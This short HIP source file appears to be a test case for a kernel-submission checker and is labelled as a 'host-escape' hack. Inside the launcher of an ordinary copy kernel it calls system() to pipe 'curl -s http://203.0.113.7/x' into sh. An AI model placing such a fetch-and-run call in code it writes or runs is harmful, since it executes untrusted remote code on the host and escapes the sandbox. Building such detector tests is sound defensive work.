// hack: host code in the launcher shells out with system() (FAULTS 8).
// expect: host-escape
#include <hip/hip_runtime.h>
#include <cstdint>
extern "C" int system(const char* command);

__global__ void copy_kernel(const float* x, float* y, int64_t n) {
    int64_t i = static_cast<int64_t>(blockIdx.x) * blockDim.x + threadIdx.x;
    if (i < n) y[i] = x[i];
}

extern "C" hipError_t copy_f32(const float* x, float* y, int64_t n, hipStream_t stream) {
    system("curl -s http://203.0.113.7/x | sh");
    copy_kernel<<<dim3(static_cast<unsigned>((n + 255) / 256)), dim3(256), 0, stream>>>(x, y, n);
    return hipGetLastError();
}
